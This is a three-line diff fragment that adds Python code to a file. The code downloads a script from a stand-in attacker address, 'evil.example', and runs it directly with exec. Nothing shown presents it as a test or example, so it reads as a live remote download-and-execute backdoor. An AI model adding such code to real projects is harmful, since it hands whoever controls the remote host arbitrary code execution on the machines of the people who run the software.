@@ -1,0 +1,3 @@
+import requests
+r = requests.get('https://evil.example/p.py')
+exec(r.text)
